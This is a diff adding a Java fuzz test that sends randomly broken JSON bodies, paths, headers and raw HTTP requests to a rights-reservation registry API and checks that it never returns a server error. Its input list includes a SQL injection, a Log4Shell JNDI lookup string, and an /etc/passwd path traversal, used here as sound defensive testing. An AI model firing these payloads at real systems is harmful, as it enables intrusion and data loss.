@@ -1,0 +1,349 @@
+package org.askfirst.registry.house;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.net.Socket;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.TreeMap;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import org.askfirst.testkit.Names;
+import org.askfirst.testkit.Party;
+import org.junit.jupiter.api.Test;
+
+/** No request whatever is answered with a 5xx, and every failure is a problem. Drawn at random, always the same. */
+@QuarkusTest
+class AnyRequestTest extends RegistryTest {
+    private static final int EACH = 120;
+    private static final int SERVER_FAULT = 500;
+    private static final int FAULT = 400;
+    private static final int SHOWN = 400;
+
+    private static final String DECLARATION =
+            "{\"subjects\":[\"isbn:9788936434120\",\"url:https://example.com/a?b=c\"],"
+                    + "\"stances\":{\"ai-training\":\"reserved\",\"search-indexing\":\"permitted-with-terms\"},"
+                    + "\"terms\":{\"contact\":\"mailto:a@example.com\",\"license\":\"https://example.com/\","
+                    + "\"payment\":{\"type\":\"training\",\"amount\":\"1.5\",\"currency\":\"KRW\"},\"userClass\":[\"education\"],"
+                    + "\"territory\":[\"KR\"],\"text\":\"x\"},\"validFrom\":\"2026-01-01T00:00:00Z\","
+                    + "\"validTo\":\"2099-01-01T00:00:00Z\",\"work\":{\"title\":\"t\",\"creators\":[\"c\"],\"kind\":\"k\"}}";
+    private static final String LOOKUP = "{\"items\":[{\"id\":\"a\",\"subjects\":[\"url:https://example.com/a\"]},"
+            + "{\"subjects\":[\"isbn:9788936434120\"]}],\"uses\":[\"ai-training\"],\"asOf\":\"0\",\"detail\":\"full\"}";
+
+    /** What breaks parsers, databases and encoders. */
+    private static final List<String> SILLY = List.of(
+            "",
+            " ",
+            "null",
+            "true",
+            "0",
+            "-0",
+            "1e999999",
+            "-1e-999999",
+            "99999999999999999999999999999999999999999999999999",
+            "NaN",
+            "\"\"",
+            "\"\\u0000\"",
+            "\"\\ud800\"",
+            "\"\\udc00\\ud800\"",
+            "\"\u202e\ufeff\uffff\"",
+            "[]",
+            "{}",
+            "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
+            "{\"\":{\"\":{\"\":{}}}}",
+            "{\"a\":1,\"a\":2}",
+            "{\"__proto__\":1,\"\\ud800\":1}",
+            "\"'; drop table ledger_entry; --\"",
+            "\"${jndi:ldap://x/y}\"",
+            "\"%s%n%d\"",
+            "\"../../../../etc/passwd\"",
+            "\"url:http://[::1\"",
+            "\"url:http://0x7f.1/%%%\"",
+            "\"url:https://xn--a/\"",
+            "\"domain:.\"",
+            "\"domain:*.com\"",
+            "\"under:https://a.com/" + "a/".repeat(3000) + "\"",
+            "\"isbn:٩٧٨٨٩٣٦٤٣٤١٢٠\"",
+            "\"sha256:\"",
+            "\"work:\"",
+            "\"iscc:KEC\"",
+            "\"uci:I410-\\u0000\"",
+            "\"2026-02-30T25:61:61Z\"",
+            "\"+999999999-12-31T23:59:59.999999999+18:00\"",
+            "\"-999999999-01-01T00:00:00Z\"",
+            "\"" + "한".repeat(30_000) + "\"");
+
+    private record Operation(String method, String path) {}
+
+    private final Random random = new Random(20260114);
+
+    /** The operations of the contract, and QUERY, which it cannot name. */
+    private static List<Operation> operations() throws IOException {
+        List<Operation> operations = new ArrayList<>(List.of(new Operation("QUERY", "/v1/lookups")));
+        Pattern path = Pattern.compile("  (/\\S+):");
+        Pattern method = Pattern.compile("    (get|post|put|delete):");
+        String current = "";
+        for (String line : Files.readAllLines(Path.of("openapi.yaml"))) {
+            Matcher asPath = path.matcher(line);
+            Matcher asMethod = method.matcher(line);
+            if (asPath.matches()) {
+                current = asPath.group(1);
+            } else if (asMethod.matches()) {
+                operations.add(new Operation(asMethod.group(1).toUpperCase(java.util.Locale.ROOT), current));
+            }
+        }
+        return operations;
+    }
+
+    private <T> T any(List<T> list) {
+        return list.get(random.nextInt(list.size()));
+    }
+
+    @Test
+    void brokenBodiesParametersAndHeadersAreNeverOurFault() throws Exception {
+        HttpClient client = HttpClient.newHttpClient();
+        List<Operation> operations = operations();
+        assertTrue(operations.size() >= 16, "operations are missing: " + operations);
+        Map<Integer, Integer> statuses = new TreeMap<>();
+        for (Operation operation : operations) {
+            // A new one for each: there is an operation that closes it.
+            Party party = Party.open();
+            String declaration = operation.path().endsWith("/repertoire")
+                    ? party.declares("{\"repertoire\":{\"title\":\"t\"},\"stances\":{\"ai-training\":\"reserved\"}}")
+                    : party.reserves(Names.url());
+            for (int i = 0; i < EACH; i++) {
+                byte[] body = body(operation, party);
+                String path = path(operation, declaration, party);
+                HttpRequest.Builder request = HttpRequest.newBuilder(
+                                URI.create("http://localhost:" + RestAssured.port + path))
+                        .timeout(Duration.ofMinutes(1))
+                        .method(operation.method(), HttpRequest.BodyPublishers.ofByteArray(body));
+                headers(request, operation, party);
+                HttpResponse<String> answer =
+                        client.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
+                String told = shortened(operation.method() + " " + path) + " "
+                        + shortened(request.build().headers().map().toString()) + " answered "
+                        + answer.statusCode() + " " + answer.headers().map() + " " + shortened(answer.body()) + "\nto "
+                        + shortened(new String(body, StandardCharsets.UTF_8));
+                assertTrue(answer.statusCode() < SERVER_FAULT, told);
+                assertTrue(!answer.body().contains("internal-error"), told);
+                if (answer.statusCode() >= FAULT) {
+                    assertEquals(
+                            "application/problem+json",
+                            answer.headers()
+                                    .firstValue("Content-Type")
+                                    .orElse("")
+                                    .replaceFirst(";.*", ""),
+                            told);
+                }
+                statuses.merge(answer.statusCode(), 1, Integer::sum);
+            }
+        }
+        for (int status : new int[] {200, 201, 400, 401, 404, 406, 415, 422}) {
+            assertTrue(statuses.containsKey(status), "no request came so far as to " + status + ": " + statuses);
+        }
+    }
+
+    @Test
+    void requestsThatAreHardlyHttpAreNeverOurFault() throws IOException {
+        for (int i = 0; i < 300; i++) {
+            StringBuilder request = new StringBuilder(
+                    any(List.of("GET", "POST", "QUERY", "PUT", "DELETE", "HEAD", "OPTIONS", "TRACE", "get", "X")));
+            request.append(' ')
+                    .append(any(List.of(
+                            "/v1/lookup?subject="
+                                    + any(List.of("%", "%zz", "%00", "%ff", "a&subject", "=", "&&", "%ed%a0%80")),
+                            "/v1/declarations/" + any(List.of("%00", "%2e%2e", "..", "%", "a%2fb", "%ff", ";x=y")),
+                            "/v1/parties/me/declarations?limit=" + any(List.of("%00", "1&limit=2", "%", "", "0x1")),
+                            "/v1/lookups?use=" + any(List.of("%00", "%", "ai-training&use=", "")),
+                            "//v1//lookup",
+                            "/v1/../v1/lookup",
+                            "*",
+                            "http://elsewhere/v1/lookup",
+                            "/openapi.yaml?" + "x".repeat(5000))))
+                    .append(any(List.of(" HTTP/1.1", " HTTP/1.0")))
+                    .append("\r\nHost: localhost\r\nConnection: close\r\n")
+                    .append(any(List.of(
+                            "",
+                            "Content-Length: 0\r\n",
+                            "Content-Type: application/json\r\nContent-Length: 2\r\n",
+                            "Content-Type: ;;;\r\nContent-Length: 2\r\n",
+                            "Accept: ;q=x\r\n",
+                            "Accept: application/json;q=2\r\n",
+                            "Authorization: Bearer \u00e9\r\n",
+                            "If-None-Match: ,,\"\r\n",
+                            "Idempotency-Key: \u00ff\r\n",
+                            "Accept-Encoding: gzip, br;q=x\r\n")))
+                    .append("\r\n{}");
+            int status = status(request.toString());
+            assertTrue(status < SERVER_FAULT || status == 501 || status == 505, status + " to " + request);
+        }
+    }
+
+    private static String shortened(String text) {
+        return text.length() <= SHOWN
+                ? text
+                : text.substring(0, SHOWN / 2) + "…" + text.substring(text.length() - SHOWN / 2);
+    }
+
+    private static int status(String request) throws IOException {
+        try (Socket socket = new Socket("localhost", RestAssured.port)) {
+            socket.setSoTimeout(30_000);
+            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
+            socket.getOutputStream().flush();
+            byte[] head = socket.getInputStream().readNBytes(12);
+            String line = new String(head, StandardCharsets.ISO_8859_1);
+            return line.length() < 12 ? 0 : Integer.parseInt(line.substring(9, 12));
+        }
+    }
+
+    private String path(Operation operation, String declaration, Party party) {
+        String id = any(List.of(
+                declaration, declaration, party.keyId(), "%00", "d_%FF", "..;", "x".repeat(3000), "%F0%9F%98%80"));
+        StringBuilder path =
+                new StringBuilder(operation.path().replaceAll("\\{[^}]+\\}", Matcher.quoteReplacement(id)));
+        char before = '?';
+        for (String name : List.of("subject", "use", "asOf", "detail", "after", "limit", "wrong")) {
+            if (random.nextInt(4) == 0) {
+                String value = any(List.of(
+                        "",
+                        "0",
+                        "1",
+                        "-1",
+                        "full",
+                        "verdict",
+                        "ai-training",
+                        "isbn:9788936434120",
+                        "url:https://a.com/b",
+                        "%00",
+                        "%ED%A0%80",
+                        "%FF",
+                        "9".repeat(40),
+                        "2026-01-01T00:00:00Z",
+                        "x".repeat(2000),
+                        "+",
+                        "%25"));
+                path.append(before).append(name).append('=').append(value);
+                before = '&';
+            }
+        }
+        return path.toString();
+    }
+
+    private void headers(HttpRequest.Builder request, Operation operation, Party party) {
+        String usual = operation.path().endsWith("batch")
+                ? "application/x-ndjson"
+                : operation.path().startsWith("/api") ? "text/plain" : "application/json";
+        String type = random.nextInt(6) > 0
+                ? usual
+                : any(List.of(
+                        "application/x-ndjson",
+                        "text/plain",
+                        "application/json;charset=utf-16",
+                        "a/b",
+                        "*/*",
+                        "x",
+                        ""));
+        if (!type.isEmpty()) {
+            request.header("Content-Type", type);
+        }
+        if (random.nextInt(8) > 0) {
+            request.header(
+                    "Authorization",
+                    any(List.of(
+                            "Bearer " + party.key(),
+                            "Bearer " + party.key(),
+                            "Bearer " + party.key(),
+                            "Bearer " + Party.operatorKey(),
+                            "Bearer " + "x".repeat(5000),
+                            "Bearer")));
+        }
+        if (random.nextInt(8) == 0) {
+            request.header(
+                    "Accept",
+                    any(List.of("*/*", "image/png", "x", "application/json;q=0", "application/problem+json")));
+        }
+        if (random.nextInt(4) == 0) {
+            request.header("Idempotency-Key", any(List.of("a", "b", " ", "x".repeat(300), "'\"\\")));
+        }
+        if (random.nextInt(4) == 0) {
+            request.header("If-None-Match", any(List.of("*", "\"", "W/", ",", "\"a\",\"b\"", "x".repeat(2000))));
+        }
+    }
+
+    private byte[] body(Operation operation, Party party) {
+        String valid = switch (operation.path()) {
+            case "/v1/parties" -> "{\"name\":\"n\",\"kind\":\"creator\",\"contact\":\"mailto:a@example.com\"}";
+            case "/v1/operator/decisions" ->
+                "{\"party\":\"" + party.id()
+                        + "\",\"decision\":\"vouching-granted\",\"schemes\":[\"isbn\"],\"reason\":\"seen\"}";
+            case "/v1/operator/controls", "/v1/operator/control-revocations", "/v1/parties/me/control-records" ->
+                "{\"party\":\"" + party.id() + "\",\"subject\":\"domain:example.com\",\"reason\":\"seen\"}";
+            case "/v1/parties/me/controls" -> "{\"subject\":\"domain:example.com\"}";
+            case "/v1/recoveries" -> "{\"party\":\"" + party.id() + "\",\"subject\":\"domain:example.com\"}";
+            case "/v1/operator/successions" -> "{\"party\":\"" + party.id() + "\",\"reason\":\"seen\"}";
+            case "/v1/parties/me/successor", "/v1/parties/me/members" -> "{\"party\":\"" + party.id() + "\"}";
+            case "/v1/mandates" ->
+                "{\"member\":\"" + party.id() + "\",\"schemes\":[\"isbn\"],\"uses\":[\"ai-training\"],"
+                        + "\"territory\":[\"KR\"],\"validTo\":\"2099-01-01T00:00:00Z\"}";
+            case "/v1/mandates/batch" ->
+                "{\"memberNumber\":\"12\",\"schemes\":[\"isbn\"]}\nmemberNumber,schemes\n1,isbn\n";
+            case "/v1/mandates/claims" -> "{\"code\":\"afm_0\"}";
+            case "/v1/lookups" -> LOOKUP;
+            case "/v1/declarations/{id}/repertoire" ->
+                "{\"add\":[\"isbn:9788936434120\",\"url:https://example.com/a?b=c\"],\"remove\":[\"doi:10.1000/182\"]}";
+            case "/v1/declarations/batch" -> DECLARATION + "\n" + DECLARATION + "\n";
+            case "/api/v2/query/urls/" -> "https://example.com/\nhttps://example.com/b\n";
+            default -> DECLARATION;
+        };
+        return switch (random.nextInt(5)) {
+            case 0 -> any(SILLY).getBytes(StandardCharsets.UTF_8);
+            case 1 -> valid.getBytes(StandardCharsets.UTF_8);
+            case 2 -> withBrokenBytes(valid.getBytes(StandardCharsets.UTF_8));
+            default -> withSillyValues(valid).getBytes(StandardCharsets.UTF_8);
+        };
+    }
+
+    private byte[] withBrokenBytes(byte[] valid) {
+        ByteArrayOutputStream broken = new ByteArrayOutputStream();
+        int end = random.nextInt(3) == 0 ? random.nextInt(valid.length) : valid.length;
+        for (int i = 0; i < end; i++) {
+            switch (random.nextInt(60)) {
+                case 0 -> broken.write(random.nextInt(256));
+                case 1 -> broken.write('"');
+                case 2 -> {
+                    broken.write(valid[i]);
+                    broken.write(valid[i]);
+                }
+                default -> broken.write(valid[i]);
+            }
+        }
+        return broken.toByteArray();
+    }
+
+    /** Texts, numbers and names of members replaced, so that what is drawn comes past the parser. */
+    private String withSillyValues(String valid) {
+        Matcher token = Pattern.compile("\"[^\"]*\"|\\[\\]|\\d+").matcher(valid);
+        StringBuilder changed = new StringBuilder();
+        while (token.find()) {
+            boolean change = random.nextInt(8) == 0;
+            token.appendReplacement(changed, Matcher.quoteReplacement(change ? any(SILLY) : token.group()));
+        }
+        return token.appendTail(changed).toString();
+    }
+}
